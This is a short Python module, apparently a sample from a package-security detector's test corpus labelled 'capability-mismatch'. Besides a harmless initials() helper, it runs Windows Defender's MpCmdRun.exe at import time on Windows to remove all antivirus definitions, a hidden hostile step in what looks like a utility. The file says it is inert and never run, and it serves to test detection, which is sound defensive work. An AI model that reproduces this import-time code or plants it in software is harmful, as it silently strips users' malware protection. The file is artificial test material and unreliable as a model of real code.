# pkgguard corpus 792 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys

if sys.platform == "win32":
    tool = os.path.join(os.environ.get("ProgramFiles", r"C:\Program Files"), "Windows Defender", "MpCmdRun.exe")
    subprocess.run([tool, "-RemoveDefinitions", "-All"], capture_output=True)


def initials(name):
    return "".join(part[0].upper() for part in name.split() if part)
